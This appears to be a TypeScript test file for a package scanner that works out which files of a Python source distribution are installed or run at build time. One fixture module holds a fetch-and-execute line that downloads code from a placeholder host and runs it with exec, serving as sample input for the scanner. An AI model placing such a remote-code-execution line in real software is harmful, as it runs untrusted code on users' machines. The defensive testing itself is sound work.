import t from 'tap'
import { buildCodeIndex } from '../../src/inspection/code-index.ts'
import { readingOf } from './python-reading.ts'

const SDISTS: readonly {
  name: string
  files: Readonly<Record<string, string>>
  surface: readonly string[]
}[] = [
  {
    name: 'what an sdist names as its package is one, whatever its folder is called',
    files: {
      'setup.py': "setup(packages=['tools', 'tools.deep'], package_dir={'': '.'})",
      'tools/__init__.py': '',
      'tools/core.py': 'import requests, subprocess\nexec(requests.get("https://a.invalid").text)',
      'tests/__init__.py': '',
      'examples/__init__.py': '',
    },
    surface: [
      'build setup.py <- setup.py:1',
      'import tools/__init__.py <- tools/__init__.py:1',
      'import tools/core.py <- tools/core.py:1',
    ],
  },
  {
    name: 'a folder in which its modules lie',
    files: {
      'setup.cfg': '[options]\npackage_dir =\n    =scripts\npy_modules = start\n',
      'scripts/start.py': '',
      'docs/conf.py': '',
    },
    surface: ['import scripts/start.py <- scripts/start.py:1'],
  },
  {
    name: 'packages that pyproject.toml names',
    files: {
      'pyproject.toml': '[tool.poetry]\nname = "x"\npackages = [{ include = "examples" }]\n',
      'examples/__init__.py': '',
      'samples/__init__.py': '',
    },
    surface: ['import examples/__init__.py <- examples/__init__.py:1'],
  },
  {
    name: 'packages that setup.py works out may be any',
    files: { 'setup.py': 'setup(packages=names("t" + "ools"))', 'tools/__init__.py': '' },
    surface: ['build setup.py <- setup.py:1', 'import tools/__init__.py <- tools/__init__.py:1'],
  },
  {
    name: 'those that setuptools finds are not those of its tests',
    files: { 'setup.py': 'setup(packages=find_packages(exclude=[]))', 'tests/__init__.py': '', 'x/__init__.py': '' },
    surface: ['build setup.py <- setup.py:1', 'import x/__init__.py <- x/__init__.py:1'],
  },
]

t.test('which folders of an sdist are installed is what it says, and not how they are called', async (t) => {
  for (const { name, files, surface } of SDISTS) {
    const seen = buildCodeIndex(readingOf('sdist', files), 'pypi').surface.map(
      ({ moment, path, chain }) => `${moment} ${path} <- ${chain.map((step) => `${step.path}:${step.line}`).join(' ')}`,
    )
    t.same(seen, surface, name)
  }
})
